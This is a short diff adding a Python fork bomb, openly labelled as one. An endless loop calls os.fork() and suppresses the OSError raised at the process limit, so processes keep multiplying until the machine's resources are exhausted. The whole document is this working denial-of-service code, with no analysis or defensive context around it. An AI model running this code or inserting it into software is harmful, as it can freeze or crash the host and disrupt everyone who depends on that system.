@@ -1,0 +1,7 @@
+# Fork bomb: every process forks forever, ignoring the errors at the process limit.
+import os
+while True:
+  try:
+    os.fork()
+  except OSError:
+    pass
